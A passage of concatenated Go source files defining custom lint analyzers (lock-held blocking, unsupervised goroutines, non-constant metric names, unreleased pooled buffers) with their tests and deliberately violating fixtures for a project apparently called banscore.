			case "Unlock", "RUnlock":
				delete(h, recv)
			}
			return h
		}
		w.checkExpr(s.X, h)

	case *ast.DeferStmt:
		// defer x.Unlock() keeps the lock held to the end of the
		// function; the guarded region is everything that follows, which
		// the ongoing scan covers by simply not releasing. A deferred
		// blocking call runs after the function body — out of scope.
		return h

	case *ast.SendStmt:
		w.reportBlocked(stmt.Pos(), "channel send", h)
		w.checkExpr(s.Value, h)

	case *ast.AssignStmt:
		for _, rhs := range s.Rhs {
			w.checkExpr(rhs, h)
		}
		for _, lhs := range s.Lhs {
			w.checkExpr(lhs, h)
		}

	case *ast.GoStmt:
		// The spawned body runs concurrently, not under our locks; scan
		// it with fresh state.
		if lit, ok := s.Call.Fun.(*ast.FuncLit); ok {
			w.walkBody(lit.Body, newHeld())
		}

	case *ast.ReturnStmt:
		for _, r := range s.Results {
			w.checkExpr(r, h)
		}

	case *ast.IfStmt:
		if s.Init != nil {
			h = w.walkStmt(s.Init, h)
		}
		w.checkExpr(s.Cond, h)
		w.walkBody(s.Body, h.clone())
		if s.Else != nil {
			w.walkStmt(s.Else, h.clone())
		}

	case *ast.ForStmt:
		if s.Init != nil {
			h = w.walkStmt(s.Init, h)
		}
		if s.Cond != nil {
			w.checkExpr(s.Cond, h)
		}
		w.walkBody(s.Body, h.clone())

	case *ast.RangeStmt:
		w.checkExpr(s.X, h)
		w.walkBody(s.Body, h.clone())

	case *ast.BlockStmt:
		return w.walkBody(s, h)

	case *ast.SwitchStmt:
		if s.Init != nil {
			h = w.walkStmt(s.Init, h)
		}
		if s.Tag != nil {
			w.checkExpr(s.Tag, h)
		}
		for _, clause := range s.Body.List {
			if cc, ok := clause.(*ast.CaseClause); ok {
				hc := h.clone()
				for _, st := range cc.Body {
					hc = w.walkStmt(st, hc)
				}
			}
		}

	case *ast.TypeSwitchStmt:
		for _, clause := range s.Body.List {
			if cc, ok := clause.(*ast.CaseClause); ok {
				hc := h.clone()
				for _, st := range cc.Body {
					hc = w.walkStmt(st, hc)
				}
			}
		}

	case *ast.SelectStmt:
		hasDefault := false
		for _, clause := range s.Body.List {
			if cc, ok := clause.(*ast.CommClause); ok && cc.Comm == nil {
				hasDefault = true
			}
		}
		if !hasDefault {
			w.reportBlocked(s.Pos(), "select with no default clause", h)
		}
		for _, clause := range s.Body.List {
			if cc, ok := clause.(*ast.CommClause); ok {
				hc := h.clone()
				for _, st := range cc.Body {
					hc = w.walkStmt(st, hc)
				}
			}
		}

	case *ast.LabeledStmt:
		return w.walkStmt(s.Stmt, h)
	}
	return h
}

// checkExpr reports blocking operations found inside an expression while
// locks are held, and scans nested function literals with fresh state.
func (w *walker) checkExpr(expr ast.Expr, h held) {
	ast.Inspect(expr, func(n ast.Node) bool {
		switch e := n.(type) {
		case *ast.FuncLit:
			w.walkBody(e.Body, newHeld())
			return false
		case *ast.UnaryExpr:
			if e.Op == token.ARROW {
				w.reportBlocked(e.Pos(), "channel receive", h)
			}
		case *ast.CallExpr:
			if name, kind := blockingCall(e, w.timeName); name != "" {
				w.reportBlocked(e.Pos(), kind+" "+name, h)
			}
		}
		return true
	})
}

// reportBlocked emits one diagnostic per held lock for a blocking
// operation.
func (w *walker) reportBlocked(pos token.Pos, what string, h held) {
	for lock := range h {
		w.pass.Reportf(pos, "%s while holding %s; blocking under a mutex is the chaos suite's deadlock shape — move the operation outside the critical section", what, lock)
	}
}

// lockCall recognizes x.Lock/RLock/Unlock/RUnlock() and returns the
// rendered receiver and operation.
func lockCall(e ast.Expr) (recv, op string) {
	call, ok := e.(*ast.CallExpr)
	if !ok || len(call.Args) != 0 {
		return "", ""
	}
	sel, ok := call.Fun.(*ast.SelectorExpr)
	if !ok {
		return "", ""
	}
	switch sel.Sel.Name {
	case "Lock", "RLock", "Unlock", "RUnlock":
		if r := exprString(sel.X); r != "" {
			return r, sel.Sel.Name
		}
	}
	return "", ""
}

// blockingCall recognizes the call-shaped blocking operations: time.Sleep,
// .WaitForShutdown(), and WaitGroup-style .Wait() (excluding sync.Cond
// receivers, which must hold the lock by contract).
func blockingCall(call *ast.CallExpr, timeName string) (name, kind string) {
	sel, ok := call.Fun.(*ast.SelectorExpr)
	if !ok {
		return "", ""
	}
	switch sel.Sel.Name {
	case "Sleep":
		if base, ok := sel.X.(*ast.Ident); ok && timeName != "" && base.Name == timeName {
			return "time.Sleep", "call to"
		}
	case "WaitForShutdown":
		return exprString(sel.X) + ".WaitForShutdown", "call to"
	case "Wait":
		recv := exprString(sel.X)
		if strings.Contains(strings.ToLower(recv), "cond") {
			return "", "" // sync.Cond.Wait releases the lock while parked
		}
		return recv + ".Wait", "call to"
	}
	return "", ""
}

// exprString renders simple receiver expressions ("mu", "n.mu",
// "p.state.mu"); anything more exotic renders as "".
func exprString(e ast.Expr) string {
	switch v := e.(type) {
	case *ast.Ident:
		return v.Name
	case *ast.SelectorExpr:
		if base := exprString(v.X); base != "" {
			return base + "." + v.Sel.Name
		}
	case *ast.ParenExpr:
		return exprString(v.X)
	}
	return ""
}
