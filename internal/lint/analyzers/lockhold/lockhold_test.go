package lockhold_test

import (
	"testing"

	"banscore/internal/lint/analysistest"
	"banscore/internal/lint/analyzers/lockhold"
)

func TestLockRegions(t *testing.T) {
	analysistest.Run(t, "testdata/locks", lockhold.Analyzer)
}
