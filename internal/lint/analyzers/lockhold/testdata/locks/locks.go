// Package locks is a lockhold fixture. The analyzer is unscoped, so the
// directory name carries no meaning.
package locks

import (
	"sync"
	"time"
)

type guarded struct {
	mu   sync.Mutex
	rw   sync.RWMutex
	cond *sync.Cond
	wg   sync.WaitGroup
	ch   chan int
}

// sendWhileHeld is the canonical violation.
func (g *guarded) sendWhileHeld() {
	g.mu.Lock()
	g.ch <- 1 // want `channel send while holding g\.mu; blocking under a mutex is the chaos suite's deadlock shape — move the operation outside the critical section`
	g.mu.Unlock()
}

// afterUnlock shows release clears the state.
func (g *guarded) afterUnlock() {
	g.mu.Lock()
	g.mu.Unlock()
	g.ch <- 1
}

// deferredUnlock keeps the lock held to the end of the function.
func (g *guarded) deferredUnlock() int {
	g.mu.Lock()
	defer g.mu.Unlock()
	return <-g.ch // want `channel receive while holding g\.mu`
}

// receiveAssign finds receives on assignment right-hand sides.
func (g *guarded) receiveAssign() {
	g.rw.RLock()
	v := <-g.ch // want `channel receive while holding g\.rw`
	_ = v
	g.rw.RUnlock()
}

// sleepy flags time.Sleep under a lock.
func (g *guarded) sleepy() {
	g.mu.Lock()
	time.Sleep(time.Millisecond) // want `call to time\.Sleep while holding g\.mu`
	g.mu.Unlock()
}

// waits flags WaitGroup-style waits but not sync.Cond waits.
func (g *guarded) waits() {
	g.mu.Lock()
	g.wg.Wait() // want `call to g\.wg\.Wait while holding g\.mu`
	g.cond.Wait()
	g.mu.Unlock()
}

// selects flags a default-less select but not one that cannot park.
func (g *guarded) selects(quit chan struct{}) {
	g.mu.Lock()
	select { // want `select with no default clause while holding g\.mu`
	case <-quit:
	}
	g.mu.Unlock()

	g.mu.Lock()
	select {
	case g.ch <- 1:
	default:
	}
	g.mu.Unlock()
}

// branchLocal shows a lock taken inside a branch does not leak out.
func (g *guarded) branchLocal(b bool) {
	if b {
		g.mu.Lock()
		g.ch <- 1 // want `channel send while holding g\.mu`
		g.mu.Unlock()
	}
	g.ch <- 1
}

// spawned bodies run concurrently, not under our locks.
func (g *guarded) spawned() {
	g.mu.Lock()
	go func() {
		g.ch <- 1
	}()
	g.mu.Unlock()
}

// unlocked code never reports.
func (g *guarded) unlocked() {
	g.ch <- 1
	<-g.ch
	g.wg.Wait()
	time.Sleep(time.Millisecond)
}

// suppressed proves one waiver covers exactly one line.
func (g *guarded) suppressed() {
	g.mu.Lock()
	//lint:allow lockhold(fixture: buffered channel sized for the worst case)
	g.ch <- 1
	g.ch <- 1 // want `channel send while holding g\.mu`
	g.mu.Unlock()
}

// malformed directives report themselves and waive nothing.
func (g *guarded) malformed() {
	g.mu.Lock()
	g.ch <- 1 //lint:allow lockhold // want `channel send while holding g\.mu` `malformed lint:allow directive: want //lint:allow <analyzer>\(<reason>\) with a non-empty reason`
	g.mu.Unlock()
}
