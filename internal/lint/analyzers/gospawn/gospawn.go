// Package gospawn defines the banlint analyzer that forbids bare go
// statements in the connection-handling packages.
//
// The node and peer packages own goroutines whose lifetimes must be
// collected at shutdown: Stop contracts, the chaos suite's leak
// assertions, and the self-healing connection manager's slot accounting
// all assume every spawned goroutine is registered with the owner's
// WaitGroup before it starts. A bare `go` statement — the historic source
// of the fire-and-forget reconnect goroutine PR 2 replaced — silently
// re-introduces orphan goroutines that outlive Stop and turn clean
// shutdown into a race. This analyzer restricts `go` statements in the
// scoped packages to the bodies of the supervised spawn helpers
// ((*Node).spawn, (*Peer).spawn); anything else is a diagnostic. The rare
// legitimately unsupervised goroutine — an abandoned-dial reaper that may
// block forever on a hung Dialer — documents itself with
// //lint:allow gospawn(<reason>).
package gospawn

import (
	"go/ast"

	"banscore/internal/lint/analysis"
)

// DefaultScope lists the import-path segments of the packages whose
// goroutines must be supervised. observer is in scope because its pollers
// are long-lived per-node goroutines whose shutdown the fleet driver must
// be able to await. fleet and attack are in scope because the harness
// reaps child processes and the attack sessions drain connection reads;
// an orphan goroutine there survives Shutdown and flakes the fleet smoke
// run's exit. swarm is in scope because the event-loop engine's shard
// workers are exactly the goroutines Stop must reap — an unsupervised
// worker there leaks a busy loop per shard.
var DefaultScope = []string{"node", "peer", "banstore", "observer", "fleet", "attack", "swarm"}

// spawnHelpers names the functions allowed to contain go statements: the
// WaitGroup-registering helpers everything else must route through.
var spawnHelpers = map[string]bool{
	"spawn": true,
}

// Analyzer is the gospawn check.
var Analyzer = &analysis.Analyzer{
	Name: "gospawn",
	Doc: "require supervised goroutine spawning in the connection-handling packages\n\n" +
		"Within packages whose import path contains a scoped segment (default: " +
		"node, peer), go statements may appear only inside the spawn helper " +
		"methods that register the goroutine with the owner's WaitGroup before " +
		"it starts.",
	Run: run,
}

func run(pass *analysis.Pass) error {
	inScope := false
	for _, seg := range DefaultScope {
		if pass.HasPathSegment(seg) {
			inScope = true
			break
		}
	}
	if !inScope {
		return nil
	}
	for _, file := range pass.Files {
		for _, decl := range file.Decls {
			fn, ok := decl.(*ast.FuncDecl)
			if !ok || fn.Body == nil {
				continue
			}
			if spawnHelpers[fn.Name.Name] {
				continue
			}
			ast.Inspect(fn.Body, func(n ast.Node) bool {
				if g, ok := n.(*ast.GoStmt); ok {
					pass.Reportf(g.Pos(),
						"bare go statement in %s; route goroutines through the supervised spawn helper so shutdown can collect them",
						fn.Name.Name)
				}
				return true
			})
		}
	}
	return nil
}
