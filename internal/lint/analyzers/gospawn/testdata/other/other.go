// Package other is a gospawn fixture OUTSIDE the analyzer's scope: bare
// go statements are fine in packages that do not own supervised
// goroutine lifecycles.
package other

func fine(fn func()) {
	go fn()
}
