// Package node is a gospawn fixture: its directory name puts it in the
// analyzer's scope (segment "node").
package node

import "sync"

type Node struct {
	wg sync.WaitGroup
}

// spawn is the supervised helper; the go statement inside it is the one
// sanctioned spawn site.
func (n *Node) spawn(fn func()) {
	n.wg.Add(1)
	go func() {
		defer n.wg.Done()
		fn()
	}()
}

// serve routes through the helper — no diagnostic.
func (n *Node) serve(loop func()) {
	n.spawn(loop)
}

// fireAndForget is the invariant violation: a goroutine Stop cannot
// collect.
func (n *Node) fireAndForget(loop func()) {
	go loop() // want `bare go statement in fireAndForget; route goroutines through the supervised spawn helper so shutdown can collect them`
}

// nested go statements are found at any depth, including inside
// function literals and ordinary control flow.
func (n *Node) nested(work func()) {
	defer func() {
		if true {
			go work() // want `bare go statement in nested`
		}
	}()
}

// suppressed proves one stand-alone waiver covers exactly the next line.
func (n *Node) suppressed(drain func()) {
	//lint:allow gospawn(fixture: deliberately unsupervised reaper)
	go drain()
	go drain() // want `bare go statement in suppressed`
}

// malformed directives are diagnostics themselves and waive nothing.
func (n *Node) malformed(drain func()) {
	go drain() //lint:allow // want `bare go statement in malformed` `malformed lint:allow directive: want //lint:allow <analyzer>\(<reason>\) with a non-empty reason`
	go drain() //lint:allow gospawn(  ) // want `bare go statement in malformed` `malformed lint:allow directive`
}
