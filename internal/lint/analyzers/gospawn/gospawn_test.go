package gospawn_test

import (
	"testing"

	"banscore/internal/lint/analysistest"
	"banscore/internal/lint/analyzers/gospawn"
)

func TestInScope(t *testing.T) {
	analysistest.Run(t, "testdata/node", gospawn.Analyzer)
}

func TestOutOfScope(t *testing.T) {
	analysistest.Run(t, "testdata/other", gospawn.Analyzer)
}
