package metriclabel_test

import (
	"testing"

	"banscore/internal/lint/analysistest"
	"banscore/internal/lint/analyzers/metriclabel"
)

func TestRegistrySurface(t *testing.T) {
	analysistest.Run(t, "testdata/metrics", metriclabel.Analyzer)
}
