// Package metriclabel defines the banlint analyzer that keeps telemetry
// metric names and label keys compile-time constant.
//
// The telemetry registry creates a series per distinct (name, labels)
// pair and never evicts. Names and label keys interpolated from runtime
// data — the classic accident is a peer ID or address formatted into a
// metric name — therefore grow the registry without bound under attack
// traffic: an adversary who controls the interpolated value controls our
// memory. Label *values* are allowed to vary (per-command and per-rule
// families are the design), because their domains are protocol-bounded
// and flow through the Vec caches; names and keys are not.
//
// The analyzer inspects every call of the registry surface —
// Counter, Gauge, Histogram, CounterFunc, GaugeFunc, CounterVec,
// GaugeVec, Describe, and the label constructor L — and requires the
// name/key arguments to be constant string expressions: string literals,
// identifiers declared const in the same package, or concatenations
// thereof. Anything else (variables, fmt.Sprintf, function results,
// cross-package selectors) is a diagnostic.
package metriclabel

import (
	"go/ast"
	"go/token"

	"banscore/internal/lint/analysis"
)

// constArgIndexes maps the registry surface's method names to the indexes
// of the arguments that must be compile-time constant. Variadic label
// arguments are handled by checking L() calls themselves.
var constArgIndexes = map[string][]int{
	"Counter":     {0},
	"Gauge":       {0},
	"Histogram":   {0},
	"CounterFunc": {0},
	"GaugeFunc":   {0},
	"CounterVec":  {0, 1},
	"GaugeVec":    {0, 1},
	"Describe":    {0},
	// telemetry.L(key, value): the key is identity, the value may vary.
	"L": {0},
}

// argRole names the checked argument in diagnostics.
func argRole(method string, index int) string {
	if method == "L" || index == 1 {
		return "label key"
	}
	return "metric name"
}

// Analyzer is the metriclabel check.
var Analyzer = &analysis.Analyzer{
	Name: "metriclabel",
	Doc: "require compile-time constant metric names and label keys\n\n" +
		"Telemetry series live forever; a name or label key interpolated from " +
		"runtime data (a peer ID, an address) lets attack traffic grow the " +
		"registry without bound. Names and keys must be string literals or " +
		"package constants; label values may vary.",
	Run: run,
}

func run(pass *analysis.Pass) error {
	consts := packageConsts(pass.Files)
	for _, file := range pass.Files {
		ast.Inspect(file, func(n ast.Node) bool {
			call, ok := n.(*ast.CallExpr)
			if !ok {
				return true
			}
			sel, ok := call.Fun.(*ast.SelectorExpr)
			if !ok {
				return true
			}
			indexes, ok := constArgIndexes[sel.Sel.Name]
			if !ok {
				return true
			}
			for _, i := range indexes {
				if i >= len(call.Args) {
					continue
				}
				arg := call.Args[i]
				if looksNonString(arg) {
					// A same-named method from an unrelated API (first
					// argument clearly not a string): not ours to judge.
					return true
				}
				if !isConstString(arg, consts) {
					pass.Reportf(arg.Pos(),
						"%s argument of %s must be a compile-time constant string; runtime-derived names explode series cardinality (peer IDs belong in label values, never names or keys)",
						argRole(sel.Sel.Name, i), sel.Sel.Name)
				}
			}
			return true
		})
	}
	return nil
}

// isConstString reports whether e is a compile-time constant string
// expression: a string literal, an identifier declared const in this
// package, or a + concatenation of such.
func isConstString(e ast.Expr, consts map[string]bool) bool {
	switch v := e.(type) {
	case *ast.BasicLit:
		return v.Kind == token.STRING
	case *ast.Ident:
		return consts[v.Name]
	case *ast.BinaryExpr:
		return v.Op == token.ADD && isConstString(v.X, consts) && isConstString(v.Y, consts)
	case *ast.ParenExpr:
		return isConstString(v.X, consts)
	}
	return false
}

// looksNonString recognizes arguments that are definitely not strings
// (numeric or rune literals) so unrelated same-named methods are skipped
// rather than flagged.
func looksNonString(e ast.Expr) bool {
	lit, ok := e.(*ast.BasicLit)
	return ok && lit.Kind != token.STRING
}

// packageConsts collects every constant name declared in the package.
func packageConsts(files []*ast.File) map[string]bool {
	consts := make(map[string]bool)
	for _, f := range files {
		ast.Inspect(f, func(n ast.Node) bool {
			decl, ok := n.(*ast.GenDecl)
			if !ok || decl.Tok != token.CONST {
				return true
			}
			for _, spec := range decl.Specs {
				if vs, ok := spec.(*ast.ValueSpec); ok {
					for _, name := range vs.Names {
						consts[name.Name] = true
					}
				}
			}
			return true
		})
	}
	return consts
}
