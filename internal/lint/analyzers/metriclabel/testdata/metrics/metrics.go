// Package metrics is a metriclabel fixture. The analyzer is unscoped; it
// recognizes the telemetry registry surface by method name.
package metrics

import "fmt"

const (
	prefix       = "node_"
	msgsTotal    = prefix + "messages_total"
	commandLabel = "command"
)

// register exercises the constant-name rule across the registry surface.
func register(peerID string, keyVar string) {
	reg.Counter("banscore_started_total")
	reg.Counter(msgsTotal)
	reg.Counter(prefix + "drops_total")
	reg.Counter("peer_" + peerID)             // want `metric name argument of Counter must be a compile-time constant string; runtime-derived names explode series cardinality \(peer IDs belong in label values, never names or keys\)`
	reg.Gauge(fmt.Sprintf("peer_%s", peerID)) // want `metric name argument of Gauge must be a compile-time constant string`
	reg.Histogram(metricFor(peerID))          // want `metric name argument of Histogram must be a compile-time constant string`
	reg.CounterFunc(peerID, nil)              // want `metric name argument of CounterFunc must be a compile-time constant string`
	reg.CounterVec(msgsTotal, commandLabel)
	reg.CounterVec(msgsTotal, keyVar) // want `label key argument of CounterVec must be a compile-time constant string`
	reg.GaugeVec(peerID, "state")     // want `metric name argument of GaugeVec must be a compile-time constant string`
}

// labels shows label VALUES may vary; only the key is identity.
func labels(peerID string) {
	reg.Counter(msgsTotal, telemetry.L(commandLabel, peerID))
	reg.Counter(msgsTotal, telemetry.L("rule", ruleName(peerID)))
	reg.Counter(msgsTotal, telemetry.L(peerID, "v")) // want `label key argument of L must be a compile-time constant string`
}

// unrelated same-named methods with clearly non-string arguments are not
// ours to judge.
func unrelated(m matrix) {
	m.Counter(7)
	m.Gauge(1.5)
}

// suppressed proves the waiver path: one finding waived, the identical
// next one reported.
func suppressed(family string) {
	//lint:allow metriclabel(fixture: family is bound from a compile-time constant by every caller)
	reg.Counter(family)
	reg.Counter(family) // want `metric name argument of Counter must be a compile-time constant string`
}

// malformed directives report themselves and waive nothing.
func malformed(family string) {
	reg.Counter(family) //lint:allow metriclabel // want `metric name argument of Counter must be a compile-time constant string` `malformed lint:allow directive: want //lint:allow <analyzer>\(<reason>\) with a non-empty reason`
}
