// Package wire is a bufrelease fixture for the in-package view: the
// directory segment "wire" puts unqualified GetBuf/EncodeMessage calls in
// the producer set without any import resolution.
package wire

type Buf struct{ b []byte }

func (b *Buf) Bytes() []byte  { return b.b }
func (b *Buf) Release()       {}
func (b *Buf) Detach() []byte { return b.b }

func GetBuf(n int) *Buf { return &Buf{b: make([]byte, n)} }

// released is the happy path: acquire, use, Release.
func released(n int) int {
	b := GetBuf(n)
	m := len(b.Bytes())
	b.Release()
	return m
}

// detachedVar uses the var-declaration binding form.
func detachedVar(n int) []byte {
	var b = GetBuf(n)
	return b.Detach()
}

// sent hands the buffer to a channel; the receiver inherits the
// obligation.
func sent(n int, ch chan *Buf) {
	b := GetBuf(n)
	ch <- b
}

// reassigned stores the buffer onward through an assignment.
type holder struct{ pending *Buf }

func (h *holder) reassigned(n int) {
	b := GetBuf(n)
	h.pending = b
}

// leaked acquires and never releases: the diagnostic names the
// unqualified producer.
func leaked(n int) int {
	b := GetBuf(n) // want `pooled buffer b from GetBuf never reaches Release or Detach in leaked`
	return len(b.Bytes())
}

// discardedVar binds to _ in a declaration.
func discardedVar(n int) {
	var _ = GetBuf(n) // want `pooled buffer from GetBuf bound to _ in discardedVar`
}

// dropped throws the result away entirely.
func dropped(n int) {
	GetBuf(n) // want `result of GetBuf discarded in dropped`
}

// closureReleased proves uses inside function literals count: acquire in
// the outer body, Release in a deferred closure.
func closureReleased(n int) []byte {
	b := GetBuf(n)
	defer func() { b.Release() }()
	out := make([]byte, len(b.Bytes()))
	copy(out, b.Bytes())
	return out
}
