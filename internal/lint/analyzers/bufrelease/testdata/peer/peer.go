// Package peer is a bufrelease fixture for the importing-package view:
// producers are reached through the wire import (here aliased to w, to
// prove resolution goes through the import table rather than the literal
// name "wire").
package peer

import (
	"io"

	w "banscore/internal/wire"
)

type conn struct {
	codec w.Codec
	rw    io.ReadWriter
}

// released is the canonical happy path: encode, write, Release.
func (c *conn) released(msg w.Message) error {
	buf, err := w.EncodeMessage(msg, 1, 0)
	if err != nil {
		return err
	}
	_, err = c.rw.Write(buf.Bytes())
	buf.Release()
	return err
}

// deferred releases through defer; the selector is found at any depth.
func (c *conn) deferred(msg w.Message) error {
	buf, err := w.EncodeMessage(msg, 1, 0)
	if err != nil {
		return err
	}
	defer buf.Release()
	_, err = c.rw.Write(buf.Bytes())
	return err
}

// detached opts out of the pool; Detach discharges like Release.
func (c *conn) detached(msg w.Message) ([]byte, error) {
	buf, err := w.EncodeMessage(msg, 1, 0)
	if err != nil {
		return nil, err
	}
	return buf.Detach(), nil
}

// returned hands ownership to the caller; the obligation moves with it.
func (c *conn) returned(msg w.Message) (*w.Buf, error) {
	buf, err := w.EncodeMessage(msg, 1, 0)
	return buf, err
}

// transferred passes the buffer on as a bare argument.
func (c *conn) transferred(msg w.Message, sink func(*w.Buf)) error {
	buf, err := w.EncodeMessage(msg, 1, 0)
	if err != nil {
		return err
	}
	sink(buf)
	return nil
}

// decodeReleased exercises the method producer: the *Buf is the second
// result of DecodeMessage.
func (c *conn) decodeReleased() (w.Message, error) {
	msg, pbuf, err := c.codec.DecodeMessage(c.rw, 1, 0, nil)
	pbuf.Release()
	return msg, err
}

// leaked is the invariant violation: the encode buffer never reaches
// Release, Detach, or a transfer. Borrowing via buf.Bytes() does not
// discharge the obligation.
func (c *conn) leaked(msg w.Message) error {
	buf, err := w.EncodeMessage(msg, 1, 0) // want `pooled buffer buf from w.EncodeMessage never reaches Release or Detach in leaked`
	if err != nil {
		return err
	}
	_, err = c.rw.Write(buf.Bytes())
	return err
}

// discarded binds the decode buffer to the blank identifier, which can
// never be released.
func (c *conn) discarded() (w.Message, error) {
	msg, _, err := c.codec.DecodeMessage(c.rw, 1, 0, nil) // want `pooled buffer from DecodeMessage bound to _ in discarded`
	return msg, err
}

// dropped calls a producer as a statement, throwing the result away.
func (c *conn) dropped(msg w.Message) {
	w.EncodeMessage(msg, 1, 0) // want `result of w.EncodeMessage discarded in dropped`
}

// suppressed proves a waiver covers exactly its target line.
func (c *conn) suppressed(msg w.Message) {
	//lint:allow bufrelease(fixture: deliberate leak to exercise the waiver path)
	w.EncodeMessage(msg, 1, 0)
	w.EncodeMessage(msg, 1, 0) // want `result of w.EncodeMessage discarded in suppressed`
}

// stored stashes the buffer in a composite literal; the holder inherits
// the obligation, so no diagnostic here.
type held struct{ b *w.Buf }

func (c *conn) stored(msg w.Message) held {
	buf, _ := w.EncodeMessage(msg, 1, 0)
	return held{b: buf}
}
