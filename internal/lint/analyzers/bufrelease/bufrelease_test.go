package bufrelease_test

import (
	"testing"

	"banscore/internal/lint/analysistest"
	"banscore/internal/lint/analyzers/bufrelease"
)

// TestImportingPackage covers the cross-package view: producers reached
// through an (aliased) wire import, plus the DecodeMessage method.
func TestImportingPackage(t *testing.T) {
	analysistest.Run(t, "testdata/peer", bufrelease.Analyzer)
}

// TestWirePackage covers the in-package view: unqualified producer calls
// inside a package whose path contains the "wire" segment.
func TestWirePackage(t *testing.T) {
	analysistest.Run(t, "testdata/wire", bufrelease.Analyzer)
}
