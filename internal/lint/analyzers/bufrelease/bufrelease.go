// Package bufrelease defines the banlint analyzer that enforces the wire
// buffer-pool ownership contract.
//
// internal/wire hands out pooled payload buffers (*wire.Buf) from GetBuf,
// EncodeMessage, and (*Codec).DecodeMessage. The pool's zero-alloc
// steady state only holds if every acquired buffer flows back through
// Release (or opts out via Detach); a dropped buffer is a silent leak that
// degrades the flood path back to per-message allocation, and — worse —
// a buffer that is released on one path but leaked on another hides
// exactly the kind of ownership confusion the poolpoison build tag exists
// to catch at runtime. This analyzer catches it at lint time: within a
// function that acquires a pooled buffer, the binding must syntactically
// reach a .Release() or .Detach() call, be returned to the caller, or be
// handed onward (passed as a bare argument, stored, or sent) — anything
// else, including binding the buffer to the blank identifier or dropping
// the result expression, is a diagnostic. Transfers are trusted: the
// analyzer is intra-function and purely syntactic, so passing the buffer
// on moves the obligation to the receiver rather than discharging it
// globally. A deliberate leak (none exist today) documents itself with
// //lint:allow bufrelease(<reason>).
package bufrelease

import (
	"go/ast"

	"banscore/internal/lint/analysis"
)

// wirePath is the import path of the package whose buffer pool this
// analyzer guards.
const wirePath = "banscore/internal/wire"

// producers maps the wire package's buffer-returning functions to the
// index of the *Buf in their result tuple.
var producers = map[string]int{
	"GetBuf":        0,
	"EncodeMessage": 0,
}

// decodeMethod is the Codec method producing a *Buf at result index 1.
// It is matched by selector name alone: the framework has no type
// information, and no other type in the tree declares a DecodeMessage.
const decodeMethod = "DecodeMessage"

// Analyzer is the bufrelease check.
var Analyzer = &analysis.Analyzer{
	Name: "bufrelease",
	Doc: "require pooled wire buffers to reach Release or Detach\n\n" +
		"A *wire.Buf obtained from GetBuf, EncodeMessage, or DecodeMessage " +
		"must, within the acquiring function, reach a Release or Detach " +
		"call, a return statement, or an onward transfer (bare argument, " +
		"store, or channel send). Discarding the buffer — binding it to _ " +
		"or dropping the call's result — is always a diagnostic.",
	Run: run,
}

func run(pass *analysis.Pass) error {
	// The wire package itself calls its producers unqualified; everyone
	// else must import the package, and the file's import table tells us
	// under what name.
	inWire := pass.HasPathSegment("wire")
	for _, file := range pass.Files {
		wireName := analysis.ImportName(file, wirePath)
		if wireName == "" && !inWire {
			// No access to the pool from this file; DecodeMessage is a
			// method so it can still appear, but only on a value of a
			// type from the uninported package — impossible.
			continue
		}
		for _, decl := range file.Decls {
			fn, ok := decl.(*ast.FuncDecl)
			if !ok || fn.Body == nil {
				continue
			}
			checkFunc(pass, fn, wireName, inWire)
		}
	}
	return nil
}

// acquisition is one tracked buffer binding: the identifier the *Buf was
// assigned to and the producer call that created it.
type acquisition struct {
	name string
	pos  ast.Node
	src  string
}

func checkFunc(pass *analysis.Pass, fn *ast.FuncDecl, wireName string, inWire bool) {
	var acquired []acquisition
	satisfied := map[string]bool{}

	ast.Inspect(fn.Body, func(n ast.Node) bool {
		switch n := n.(type) {
		case *ast.ExprStmt:
			// A producer called for its side effects alone drops the
			// buffer on the floor.
			if call, ok := n.X.(*ast.CallExpr); ok {
				if src, _, isProd := producerCall(call, wireName, inWire); isProd {
					pass.Reportf(call.Pos(),
						"result of %s discarded in %s; the pooled buffer can never be Released",
						src, fn.Name.Name)
				}
			}
		case *ast.AssignStmt:
			recordAcquisitions(pass, fn, n, wireName, inWire, &acquired)
			// Re-assigning the buffer onward (p.pending = buf) is a
			// transfer; the destination inherits the obligation.
			for _, rhs := range n.Rhs {
				if id, ok := bareIdent(rhs); ok {
					satisfied[id] = true
				}
			}
		case *ast.ValueSpec:
			recordSpecAcquisitions(pass, fn, n, wireName, inWire, &acquired)
		case *ast.CallExpr:
			// name.Release() / name.Detach() discharge the obligation;
			// a bare identifier (or its address) in argument position
			// transfers it to the callee.
			if sel, ok := n.Fun.(*ast.SelectorExpr); ok {
				if sel.Sel.Name == "Release" || sel.Sel.Name == "Detach" {
					if id, ok := sel.X.(*ast.Ident); ok {
						satisfied[id.Name] = true
					}
				}
			}
			for _, arg := range n.Args {
				if id, ok := bareIdent(arg); ok {
					satisfied[id] = true
				}
			}
		case *ast.ReturnStmt:
			// Returning the buffer hands ownership to the caller.
			for _, res := range n.Results {
				if id, ok := bareIdent(res); ok {
					satisfied[id] = true
				}
			}
		case *ast.SendStmt:
			if id, ok := bareIdent(n.Value); ok {
				satisfied[id] = true
			}
		case *ast.CompositeLit:
			// Storing the buffer in a struct or slice keeps it reachable;
			// the holder inherits the release obligation.
			for _, elt := range n.Elts {
				v := elt
				if kv, ok := elt.(*ast.KeyValueExpr); ok {
					v = kv.Value
				}
				if id, ok := bareIdent(v); ok {
					satisfied[id] = true
				}
			}
		}
		return true
	})

	for _, acq := range acquired {
		if satisfied[acq.name] {
			continue
		}
		pass.Reportf(acq.pos.Pos(),
			"pooled buffer %s from %s never reaches Release or Detach in %s; release it on every path or hand it onward",
			acq.name, acq.src, fn.Name.Name)
	}
}

// recordAcquisitions inspects one assignment for producer calls on its
// right-hand side, reporting blank-identifier discards immediately and
// appending named bindings to acquired. Bindings to anything other than a
// plain identifier (a struct field, a map slot) are transfers and tracked
// by nobody.
func recordAcquisitions(pass *analysis.Pass, fn *ast.FuncDecl, a *ast.AssignStmt, wireName string, inWire bool, acquired *[]acquisition) {
	for i, rhs := range a.Rhs {
		call, ok := rhs.(*ast.CallExpr)
		if !ok {
			continue
		}
		src, bufIdx, isProd := producerCall(call, wireName, inWire)
		if !isProd {
			continue
		}
		// Single multi-value call: the *Buf lands at its tuple index.
		// Parallel single-value calls: position i on both sides.
		lhsIdx := i
		if len(a.Rhs) == 1 && len(a.Lhs) > 1 {
			lhsIdx = bufIdx
		}
		if lhsIdx >= len(a.Lhs) {
			continue
		}
		id, ok := a.Lhs[lhsIdx].(*ast.Ident)
		if !ok {
			continue
		}
		if id.Name == "_" {
			pass.Reportf(call.Pos(),
				"pooled buffer from %s bound to _ in %s; it can never be Released",
				src, fn.Name.Name)
			continue
		}
		*acquired = append(*acquired, acquisition{name: id.Name, pos: call, src: src})
	}
}

// recordSpecAcquisitions is recordAcquisitions for `var b = GetBuf(n)`
// declaration forms.
